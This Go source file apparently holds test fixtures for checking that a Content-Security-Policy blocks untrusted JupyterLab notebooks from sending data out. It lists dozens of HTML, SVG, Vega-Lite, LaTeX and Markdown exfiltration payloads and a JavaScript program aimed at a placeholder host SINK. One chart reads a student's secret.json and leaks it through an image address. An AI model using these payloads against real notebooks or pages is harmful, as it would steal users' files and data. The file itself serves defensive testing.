package browser

// What a foreign notebook tries, to send something to another host, the sink. SINK stands for its address and a path
// of the attack's own.

const (
	vegaLite = "application/vnd.vegalite.v5+json"
	html     = "text/html"
	markdown = "text/markdown"
)

// attack is one cell of a foreign notebook.
type attack struct {
	path    string // that it asks of the sink
	kind    string // of its output; "" where it is a cell of text
	content string
	refused string // the directive that refuses it; "" where JupyterLab removes or does not show it
}

// unsigned are the attacks of a notebook that was not run here: JupyterLab draws its charts and shows its HTML, but
// removes scripts, style sheets and more.
var unsigned = []attack{
	{"chart-style", vegaLite, chart(""), "style-src-elem"},
	// A file of the student's is read, and leaves as the address of a picture.
	{"chart-picture", vegaLite, `{"data": {"url": "secret.json"}, "transform": [{"calculate": "'SINK?' + datum.secret",
		"as": "address"}], "mark": "image", "encoding": {"url": {"field": "address"}}}`, "img-src"},
	{"chart-data", vegaLite, `{"data": {"url": "SINK"}, "mark": "point", "encoding": {}}`, "connect-src"},
	{"chart-options", vegaLite, chart(`, "usermeta": {"embedOptions": {"config": "SINK"}}`), "connect-src"},
	{"chart-patch", vegaLite, chart(`, "usermeta": {"embedOptions": {"patch": "SINK"}}`), "connect-src"},
	{"picture", html, `<img src="SINK">`, "img-src"},
	{"pictures", html, `<img srcset="SINK 1x">`, ""},
	{"film", html, `<video src="SINK" autoplay></video>`, "media-src"},
	{"sound", html, `<audio src="SINK" autoplay></audio>`, "media-src"},
	{"poster", html, `<video poster="SINK"></video>`, "img-src"},
	{"background", html, `<p style="background: url(SINK)">text</p>`, "img-src"},
	{"table", html, `<table background="SINK"><tr><td>text</table>`, ""},
	{"style", html, `<style>@import url(SINK); p { background: url(SINK) }</style><p>text</p>`, ""},
	{"link", html, `<link rel="stylesheet" href="SINK">`, ""},
	{"prefetch", html, `<link rel="prefetch" href="SINK"><link rel="preconnect" href="SINK">`, ""},
	{"drawing", html, `<svg><image href="SINK"/><use href="SINK#a"/></svg>`, ""},
	{"frame", html, `<iframe src="SINK"></iframe>`, ""},
	{"object", html, `<object data="SINK"></object><embed src="SINK">`, ""},
	{"form", html, `<form action="SINK"><input name="a" autofocus onfocus="this.form.submit()"></form>`, ""},
	{"input", html, `<input type="image" src="SINK">`, "img-src"},
	{"script", html, `<script src="SINK"></script><script>fetch("SINK")</script>`, ""},
	{"handler", html, `<img src="data:," onerror="fetch('SINK')">`, ""},
	{"refresh", html, `<meta http-equiv="refresh" content="0; SINK">`, ""},
	{"base", html, `<base href="SINK/"><img src="SINK/relative">`, "img-src"},
	{"svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><image href="SINK"/></svg>`, ""},
	{"javascript", "application/javascript", `fetch("SINK")`, ""},
	{"formula", "text/latex", `$\style{background: url(SINK)}{x}$`, ""},
	{"markdown", markdown, `![a picture](SINK)`, "img-src"},
	{"text", "", `![a picture](SINK)`, "img-src"},
	{"text-html", "", `<img src="SINK">`, "img-src"},
}

// signed are more attacks, of a notebook that was run here: JupyterLab removes nothing of it.
var signed = []attack{
	{"script", html, `<script>fetch("SINK"); location = "SINK"</script>`, "script-src-elem"},
	{"script-of-sink", html, `<script src="SINK"></script>`, "script-src-elem"},
	{"handler", html, `<img src="data:," onerror="location = 'SINK'">`, "script-src-attr"},
	{"javascript", "application/javascript", `location = "SINK"`, ""},
	{"frame", html, `<iframe src="SINK"></iframe>`, "frame-src"},
	{"frame-script", html, `<iframe srcdoc="<script>top.location = 'SINK'</script>"></iframe>`, "script-src-elem"},
	{"object", html, `<object data="SINK"></object>`, "object-src"},
	{"film", html, `<video src="SINK" autoplay></video>`, "media-src"},
	{"link", html, `<link rel="stylesheet" href="SINK">`, "style-src-elem"},
	{"prefetch", html, `<link rel="prefetch" href="SINK">`, "default-src"},
	{"style", html, `<style>@import url(SINK)</style>`, "style-src-elem"},
	{"background", html, `<p style="background: url(SINK)">text</p>`, "img-src"},
	{"font", html, `<style>@font-face { font-family: f; src: url(SINK) }</style><p style="font-family: f">text</p>`,
		"font-src"},
	{"drawing", html, `<svg><image href="SINK"/></svg>`, "img-src"},
	{"form", html, `<form action="SINK"><input type="submit" class="sends"></form>`, "form-action"},
	{"ping", html, `<a href="#" ping="SINK" class="sends">text</a>`, ""}, // Debian's Chromium sends none
}

// chartOptions are those of every chart: the first one brings a style sheet for the page.
const chartOptions = `{"embed_options": {"defaultStyle": "@import url(SINK/chart-style)"}}`

// chart is a chart with one more property.
func chart(property string) string {
	return `{"data": {"values": [{}]}, "mark": "point", "encoding": {}` + property + `}`
}

// program is what a script would do that ran after all. Nothing keeps it from WebRTC, or from opening another page.
const program = `(async () => {
	const ask = (name, how) => { try { return how('SINK/' + name) } catch {} };
	await ask('fetch', address => fetch(address).catch(() => {}));
	ask('request', address => { const r = new XMLHttpRequest(); r.open('POST', address); r.send('secret') });
	ask('socket', address => new WebSocket(address.replace('http', 'ws')));
	ask('events', address => new EventSource(address));
	ask('beacon', address => navigator.sendBeacon(address, 'secret'));
	await ask('module', address => import(address).catch(() => {}));
	ask('worker', address => new Worker(URL.createObjectURL(new Blob(['importScripts("' + address + '")']))));
	const own = new Worker('/files/worker.js');
	await new Promise(done => { own.onmessage = own.onerror = done });
	return true })()`

// worker is the program of a worker in a file of the notebook's folder.
const worker = `try { importScripts('SINK/import') } catch {}
	fetch('SINK/worker').catch(() => {}).then(() => postMessage('done'))`
